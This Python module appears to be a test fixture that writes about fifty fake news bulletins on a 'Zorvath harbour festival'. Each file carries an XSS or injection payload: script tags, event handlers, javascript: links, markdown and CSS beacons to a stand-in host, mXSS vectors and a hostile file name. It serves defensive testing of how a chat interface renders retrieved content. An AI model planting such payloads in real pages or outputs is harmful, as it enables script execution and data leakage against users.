"""Malicious articles: every way an article could try to run script, open a dialog or
call another host from the chat. Each payload that runs sets `window.__pwned` or opens
a dialog; each that loads calls `beacon.invalid` (or 10.0.0.1).

Every article is about "the Zorvath harbour festival" so that questions retrieve them.
"""

from __future__ import annotations

import json
from pathlib import Path

BEACON = "http://beacon.invalid"
RAN = "window.__pwned=1;alert(1)"

PAYLOADS = [
    f"<script>{RAN}</script>",
    f"<SCRIPT SRC={BEACON}/x.js></SCRIPT>",
    f'<img src="{BEACON}/img.png" onerror="{RAN}">',
    f"<img src=x onerror={RAN}>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<body onload={RAN}>",
    f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    f'<iframe src="javascript:{RAN}"></iframe>',
    f'<iframe src="{BEACON}/frame"></iframe>',
    f'<a href="javascript:{RAN}">click</a>',
    f"[click me](javascript:{RAN})",
    f"![beacon]({BEACON}/md.png)",
    f'![x](x" onerror="{RAN})',
    f"[![img]({BEACON}/nested.png)]({BEACON}/)",
    f"<{BEACON}/autolink>",
    f'<object data="{BEACON}/obj"></object>',
    f'<embed src="{BEACON}/embed">',
    f'<video src="{BEACON}/v.mp4" autoplay></video>',
    f'<audio src="{BEACON}/a.mp3" autoplay></audio>',
    f'<link rel="stylesheet" href="{BEACON}/s.css">',
    f'<style>@import url("{BEACON}/i.css"); body {{ background: url("{BEACON}/bg.png") }}</style>',
    f'<div style="background-image: url({BEACON}/div.png)">styled</div>',
    f'<meta http-equiv="refresh" content="0;url={BEACON}/">',
    f'<base href="{BEACON}/">',
    f'<form action="{BEACON}/f"><input autofocus onfocus="{RAN}"></form>',
    f'<details open ontoggle="{RAN}">x</details>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RAN}">',
    f'<input type="image" src="{BEACON}/input.png">',
    f'<marquee onstart="{RAN}">m</marquee>',
    f"javascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f'"><script>{RAN}</script>',
    f"'><img src=x onerror={RAN}>",
    f"</textarea><script>{RAN}</script>",
    f"</mark></blockquote></section><script>{RAN}</script>",
    f"{{{{constructor.constructor('{RAN}')()}}}}",
    "${alert(1)} `${window.__pwned=1}`",
    '<img src="http://10.0.0.1/intranet.png">',
    f'<img srcset="{BEACON}/1x.png 1x, {BEACON}/2x.png 2x">',
    f'<picture><source srcset="{BEACON}/p.png"><img></picture>',
    f'<svg><image href="{BEACON}/svg.png"/></svg>',
    f'<svg><a xlink:href="javascript:{RAN}"><text>t</text></a></svg>',
    f"<noscript><p title=\"</noscript><img src=x onerror={RAN}>\">",
    f'<template><script>{RAN}</script></template>',
    f'<isindex type=image src=1 onerror={RAN}>',
    "right-to-left \u202eoverride: txt.exe and \u2067isolate\u2069 text",
    "A" * 50_000,  # one unbroken "word" far longer than a passage
    "\u200b\u200b zero-width spaces and a soft\u00adhyphen",
    f"&lt;script&gt;{RAN}&lt;/script&gt; already escaped once",
]


def write_articles(folder: Path) -> list[Path]:
    """At least 50 files (txt, md, html, jsonl), each carrying payloads in its title,
    its text and, for HTML and JSONL, its metadata."""
    folder.mkdir(parents=True, exist_ok=True)
    files = []
    for n, payload in enumerate(PAYLOADS):
        title = f"Zorvath bulletin {n}: {payload[:200]}"
        body = (
            f"The Zorvath harbour festival bulletin {n} reported {payload} at the pier. "
            f"Officials in Zorvath counted {n + 3} boats in the harbour that day."
        )
        kind = n % 4
        if kind == 0:
            path = folder / f"bulletin-{n}.txt"
            path.write_text(f"{title}\n\n{body}\n", encoding="utf-8")
        elif kind == 1:
            path = folder / f"bulletin-{n}.md"
            path.write_text(f"# {title}\n\n{body}\n", encoding="utf-8")
        elif kind == 2:
            path = folder / f"bulletin-{n}.html"
            path.write_text(
                f"<html><head><title>{title}</title>"
                f'<meta property="og:url" content="javascript:{RAN}">'
                f'<meta name="author" content="{payload[:200]}">'
                f"<script>{RAN}</script></head><body><article><h1>{title}</h1>"
                f"<p>{body}</p><p>{body.replace('reported', 'also noted')}</p>"
                f"</article></body></html>",
                encoding="utf-8",
            )
        else:
            path = folder / f"bulletin-{n}.jsonl"
            record = {
                "title": title, "text": body, "source": payload[:200],
                "url": f"javascript:{RAN}" if n % 8 == 3 else f"{BEACON}/article/{n}",
                "author": payload[:200], "published": "2024-05-01",
            }
            path.write_text(json.dumps(record) + "\n", encoding="utf-8")
        files.append(path)
    named = folder / "<img src=x onerror=alert(1)>.txt"  # a hostile file name too
    named.write_text(f"Zorvath bulletin by name\n\nThe Zorvath harbour festival bulletin by name "
                     f"reported {PAYLOADS[2]} at the pier.\n", encoding="utf-8")
    files.append(named)
    return files
